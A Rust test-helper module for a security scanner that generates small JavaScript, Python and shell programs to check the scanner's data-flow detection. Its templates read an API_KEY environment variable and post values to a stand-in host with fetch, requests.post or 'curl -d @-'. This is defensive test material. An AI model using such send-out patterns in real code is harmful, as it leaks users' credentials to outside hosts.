//! The rows of a catalogue, programs that use them, and what the interpreter sees of a program.

use std::fmt::Write as _;
use std::fs;
use std::path::PathBuf;
use std::sync::LazyLock;

use serde::Deserialize;
use skillscan::expand::expand;
use skillscan::package::{Content, Package, PackageRef};
use skillscan::{Limits, Ruleset};
use toml::Value;

static RULES: LazyLock<Ruleset> = LazyLock::new(|| Ruleset::builtin().expect("the rules are sound"));

/// A table of a catalogue, as far as it is asked here.
#[derive(Debug, Clone, Deserialize)]
pub(crate) struct Row {
    pub(crate) api: String,
    #[serde(default)]
    pub(crate) class: String,
    #[serde(default)]
    pub(crate) args: Vec<Value>,
    pub(crate) name: Option<Value>,
    pub(crate) host: Option<Value>,
    pub(crate) path: Option<Value>,
    pub(crate) wraps: Option<usize>,
    #[serde(default)]
    pub(crate) files: Vec<String>,
    #[serde(default, rename = "at-files")]
    pub(crate) at_files: Vec<String>,
    #[serde(default)]
    pub(crate) members: bool,
    #[serde(default)]
    pub(crate) read: bool,
    #[serde(default)]
    pub(crate) text: String,
    #[serde(default)]
    pub(crate) op: String,
    #[serde(default)]
    pub(crate) does: String,
    #[serde(default)]
    pub(crate) is: String,
}

pub(crate) fn rows(language: Language, table: &str) -> Vec<Row> {
    let path = format!("{}/signatures/flows/{}.toml", env!("CARGO_MANIFEST_DIR"), language.name());
    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
    let all: toml::Table = toml::from_str(&text).unwrap_or_else(|error| panic!("{path}: {error}"));
    let rows = all.get(table).and_then(Value::as_array).cloned().unwrap_or_default();
    rows.into_iter().map(|row| row.try_into().unwrap_or_else(|error| panic!("{path}: {error}"))).collect()
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Language {
    JavaScript,
    Python,
    Shell,
}
use Language::{JavaScript, Python, Shell};

/// What a value that is followed reached.
#[derive(Debug)]
pub(crate) struct Hit {
    pub(crate) class: String,
    pub(crate) paths: Vec<String>,
    pub(crate) content: Vec<String>,
    /// Classes of sources.
    pub(crate) labels: Vec<String>,
}

impl Language {
    pub(crate) fn name(self) -> &'static str {
        match self {
            JavaScript => "javascript",
            Python => "python",
            Shell => "shell",
        }
    }

    fn file(self) -> &'static str {
        match self {
            JavaScript => "run.js",
            Python => "run.py",
            Shell => "run.sh",
        }
    }

    /// What the interpreter says of a program.
    pub(crate) fn hits(self, program: &str) -> Vec<Hit> {
        let files = vec![(PathBuf::from(self.file()), program.as_bytes().into())];
        let found =
            PackageRef { path: ".".to_owned(), content: Content::Held(files), gaps: Vec::new(), linked_to: None };
        let limits = Limits::default();
        let expanded = expand(&Package::read(&found, &limits), &RULES, &limits);
        let texts = |all: &[std::rc::Rc<str>]| all.iter().map(|text| text.to_string()).collect();
        let outcomes = expanded.flows.iter().map(|(_, outcome)| outcome);
        outcomes
            .flat_map(|outcome| {
                outcome.hits.iter().map(|hit| Hit {
                    class: hit.class.clone(),
                    paths: texts(&hit.paths),
                    content: texts(&hit.content),
                    labels: hit.labels.iter().map(|label| outcome.names.get(label.class).to_string()).collect(),
                })
            })
            .collect()
    }

    /// The lines before, and an expression for a path with `last` as the arguments of what it names.
    pub(crate) fn expression(self, path: &str, arguments: &[&str], last: Option<&str>) -> (String, String) {
        /// Modules whose names hold dots.
        const DOTTED: [&str; 2] = ["socket.io-client", "discord.js"];
        let root_len = DOTTED.iter().find(|name| path.starts_with(**name)).map(|name| name.len());
        let root_len = root_len.unwrap_or_else(|| path.find(['.', '(']).unwrap_or(path.len()));
        let (root, members) = path.split_at(root_len);
        let mut lines = String::new();
        let mut expression = match self {
            _ if root == "?" => "thing".to_owned(),
            JavaScript if is_global(root) => root.to_owned(),
            JavaScript => {
                let _ = writeln!(lines, "const lib = require(\"{root}\");");
                "lib".to_owned()
            }
            // The longest run of plain names is a module.
            Python => {
                let names: Vec<&str> = path.split('.').take_while(|name| !name.contains('(')).collect();
                for end in 1..names.len() {
                    let _ = writeln!(lines, "import {}", names[..end].join("."));
                }
                root.to_owned()
            }
            Shell => unreachable!("scripts have commands"),
        };
        let mut given = arguments.iter();
        let is_new = |expression: &str| {
            let name = expression.rsplit('.').next().unwrap_or("");
            self == JavaScript && name.starts_with(|c: char| c.is_ascii_uppercase())
        };
        let mut rest = members;
        loop {
            if let Some(after) = rest.strip_prefix("()") {
                let new = if is_new(&expression) && !expression.contains('(') { "new " } else { "" };
                expression = format!("{new}{expression}({})", given.next().unwrap_or(&""));
                rest = after;
            } else if let Some(after) = rest.strip_prefix('.') {
                let end = after.find(['.', '(']).unwrap_or(after.len());
                let (name, after) = after.split_at(end);
                expression = match name.parse::<usize>() {
                    Ok(index) => format!("{expression}[{index}]"),
                    // Whatever comes next out of it.
                    Err(_) if name == "*" => format!("[one for one in {expression}][0]"),
                    Err(_) => format!("{expression}.{name}"),
                };
                rest = after;
            } else {
                break;
            }
        }
        if let Some(last) = last {
            expression = format!("{expression}({last})");
        }
        (lines, expression)
    }

    /// A program in which `value` is defined by an expression and sent.
    pub(crate) fn sends(self, lines: &str, expression: &str) -> String {
        match self {
            JavaScript => format!(
                "{lines}const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n\
                 async function main(thing) {{\n  const value = await {expression};\n  send(value);\n}}\nmain();\n"
            ),
            Python => format!("import requests\n{lines}value = {expression}\nrequests.post(\"{SINK}\", data=value)\n"),
            Shell => format!("{lines}{expression} | curl -d @- {SINK}\n"),
        }
    }
}

pub(crate) const SINK: &str = "https://sink.example.net/x";
pub(crate) const ADDRESS: &str = "\"https://sink.example.net/x\"";

/// A program of a shell by its path.
pub(crate) fn command(api: &str) -> &str {
    api.strip_prefix("cmd.").unwrap_or(api)
}

/// Names that a program has without asking for them.
fn is_global(name: &str) -> bool {
    const GLOBALS: [&str; 33] = [
        "process",
        "fetch",
        "navigator",
        "eval",
        "chrome",
        "import",
        "importScripts",
        "execScript",
        "setTimeout",
        "setInterval",
        "setImmediate",
        "require",
        "location",
        "document",
        "window",
        "parseInt",
        "isNaN",
        "atob",
        "console",
        "self",
        "global",
        "globalThis",
        "frames",
        "top",
        "parent",
        "this",
        "__dirname",
        "module",
        "encodeURIComponent",
        "encodeURI",
        "decodeURIComponent",
        "decodeURI",
        "unescape",
    ];
    GLOBALS.contains(&name) || name.starts_with(|c: char| c.is_ascii_uppercase())
}

/// A list of arguments in which these places are taken.
pub(crate) fn arguments(places: &[(usize, &str)]) -> String {
    let end = places.iter().map(|(at, _)| at + 1).max().unwrap_or(0);
    let of = |at| places.iter().find(|(place, _)| *place == at).map_or("\"x\"", |(_, text)| text);
    (0..end).map(of).collect::<Vec<_>>().join(", ")
}

pub(crate) fn position(arg: Option<&Value>) -> Option<usize> {
    arg.and_then(Value::as_integer).and_then(|at| usize::try_from(at).ok())
}

/// What a program keeps in `secret`.
pub(crate) fn secret(language: Language) -> &'static str {
    match language {
        JavaScript => "const secret = process.env.API_KEY;\n",
        _ => "import os\nsecret = os.environ[\"API_KEY\"]\n",
    }
}
